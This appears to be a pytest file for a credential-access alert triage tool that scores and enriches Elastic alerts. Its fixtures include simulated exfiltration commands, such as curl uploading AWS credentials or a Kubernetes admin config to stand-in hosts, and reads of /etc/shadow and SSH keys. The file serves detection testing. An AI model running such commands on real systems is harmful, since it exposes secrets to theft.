"""Per-alert triage: the block is added, Elastic fields untouched, priorities ordered sensibly."""

from __future__ import annotations

import copy
from typing import Any

import pytest

from credwatch.triage.enrich import PRIORITY_THRESHOLDS, Triage, enrich_alert

from .helpers import auditd, defend, scan_alerts

SA = "/var/run/secrets/kubernetes.io/serviceaccount/token"


def _alert(ev: dict[str, Any]) -> tuple[dict[str, Any], dict[str, Any]]:
    found = scan_alerts([ev])
    assert len(found) == 1, "the seed rule must match this event"
    return found[0]


def _triaged(ev: dict[str, Any]) -> dict[str, Any]:
    alert, event = _alert(ev)
    return enrich_alert(alert, event)


def test_only_credwatch_triage_keys_are_added() -> None:
    alert, event = _alert(defend(["cat", "/root/.aws/credentials"]))
    before = copy.deepcopy(alert)
    enrich_alert(alert, event)
    added = set(alert) - set(before)
    assert added and all(k.startswith("credwatch.triage.") for k in added)
    assert {k: alert[k] for k in before} == before


def test_enrich_from_the_alert_alone_equals_enrich_with_the_event() -> None:
    alert, event = _alert(auditd(["base64", "/root/.kube/config"]))
    a = enrich_alert(copy.deepcopy(alert), event)
    b = enrich_alert(copy.deepcopy(alert))
    keys = [k for k in a if k.startswith("credwatch.triage.")]
    assert {k: a[k] for k in keys} == {k: b[k] for k in keys}


def test_block_contents_for_a_defend_alert() -> None:
    a = _triaged(defend(["grep", "FAKE", SA]))
    assert a["credwatch.triage.kinds"] == ["kubernetes-sa-token"]
    cred = a["credwatch.triage.credentials"][0]
    assert cred["path"] == SA and cred["source"] == "explain" and cred["arg_index"] == 2
    assert a["credwatch.triage.command_line"]["reconstructed"] == f"grep FAKE {SA}"
    assert a["credwatch.triage.workload"]["location"] == "pod"
    assert a["credwatch.triage.user"]["name"] == "root"
    assert a["credwatch.triage.likely_benign"] is False
    assert a["credwatch.triage.priority"] in {"P1", "P2", "P3", "P4"}
    summary = a["credwatch.triage.summary"]
    assert "Kubernetes service-account token" in summary and "k8s-node-1" in summary
    assert "bash" in summary and "sshd" in summary
    steps = "\n".join(a["credwatch.triage.next_steps"])
    assert "Confirm that root" in steps and f"grep FAKE {SA}" in steps
    assert "Kubernetes audit log" in steps and "automountServiceAccountToken: false" in steps
    assert "delete pod" in steps


def test_score_factors_sum_to_the_score() -> None:
    a = _triaged(defend(["curl", "-d", "@/root/.aws/credentials", "https://x.example/"]))
    total = sum(int(f.split()[0]) for f in a["credwatch.triage.score_factors"])
    assert a["credwatch.triage.score"] == max(0, min(100, total))
    assert a["credwatch.triage.exfil_indicators"] is True
    assert a["credwatch.triage.priority"] == "P1"


def _priority(ev: dict[str, Any]) -> tuple[int, str]:
    a = _triaged(ev)
    return a["credwatch.triage.score"], a["credwatch.triage.priority"]


def test_priority_ordering() -> None:
    kubelet_backup = defend(["cat", SA], **{"process.parent.name": "velero",
                                            "process.parent.executable": "/velero"})
    ca_read = defend(["cat", "/var/run/secrets/kubernetes.io/serviceaccount/ca.crt"],
                     host="web-01")
    shadow_host = defend(["cat", "/etc/shadow"], host="web-01")
    aws_host = defend(["cat", "/root/.aws/credentials"], host="web-01")
    aws_encoded = defend(["base64", "/root/.aws/credentials"], host="web-01")
    aws_exfil = defend(["curl", "-T", "/root/.aws/credentials", "ftp://x/"], host="web-01")
    admin_cp = defend(["cat", "/etc/kubernetes/admin.conf"], host="cp-1")
    ladder = [kubelet_backup, ca_read, shadow_host, aws_host, aws_encoded, aws_exfil]
    scores = [_priority(ev)[0] for ev in ladder]
    assert scores == sorted(scores), scores
    assert len(set(scores[1:])) == len(scores) - 1, scores  # strictly increasing from the CA
    assert _priority(admin_cp)[1] == "P1"
    assert _priority(aws_exfil)[1] == "P1"
    assert _priority(kubelet_backup)[1] == "P4"
    assert _priority(ca_read)[1] == "P4"


def test_bastion_ranks_above_plain_host() -> None:
    plain = _priority(defend(["cat", "/root/.ssh/id_rsa"], host="web-01"))[0]
    jump = _priority(defend(["cat", "/root/.ssh/id_rsa"], host="jump-01"))[0]
    assert jump > plain


def test_benign_parent_lowers_priority_but_not_with_exfil() -> None:
    fields = {"process.parent.name": "kube-bench", "process.parent.executable": "/kube-bench"}
    scan = _triaged(defend(["cat", "/etc/kubernetes/admin.conf"], host="cp-1", **fields))
    assert scan["credwatch.triage.likely_benign"] is True
    assert "kube-bench" in scan["credwatch.triage.benign_reason"]
    assert any("exceptions add" in s for s in scan["credwatch.triage.next_steps"])
    plain = _triaged(defend(["cat", "/etc/kubernetes/admin.conf"], host="cp-1"))
    assert scan["credwatch.triage.score"] < plain["credwatch.triage.score"]
    exfil = _triaged(defend(["curl", "-T", "/etc/kubernetes/admin.conf", "ftp://x/"],
                            host="cp-1", **fields))
    assert exfil["credwatch.triage.likely_benign"] is False
    assert "but exfiltration indicator" in exfil["credwatch.triage.benign_reason"]


def test_scratch_directory_binary_is_not_benign_and_scores_higher() -> None:
    home = _triaged(defend(["/tmp/cwcap/kitty", "/root/.kube/config"]))
    assert home["credwatch.triage.scratch_executable"] == "/tmp/cwcap/kitty"
    normal = _triaged(defend(["cat", "/root/.kube/config"]))
    assert home["credwatch.triage.score"] == normal["credwatch.triage.score"] + 10


def test_thresholds_cover_all_scores() -> None:
    assert [p for p, _ in PRIORITY_THRESHOLDS] == ["P1", "P2", "P3", "P4"]
    assert PRIORITY_THRESHOLDS[-1][1] == 0


@pytest.mark.parametrize("correlate", [False, True])
def test_triage_object_returns_every_alert_once(correlate: bool) -> None:
    events = [defend(["cat", "/root/.aws/credentials"], t=i, pid=100 + i) for i in range(5)]
    triage = Triage(correlate=correlate, window=2)
    out: list[dict[str, Any]] = []
    for ev in events:
        out += triage.observe(ev)
        for a, e in scan_alerts([ev]):
            out += triage.add_alert(a, e)
    if correlate:
        # alerts whose 2 s window passed were released while observing.
        assert 0 < len(out) < 5 and triage.pending() == 5 - len(out)
    out += triage.drain(final=True)
    assert len(out) == 5 and triage.pending() == 0
    assert len({a["kibana.alert.uuid"] for a in out}) == 5
    assert all("credwatch.triage.priority" in a for a in out)
    assert ("credwatch.triage.related" in out[0]) is correlate
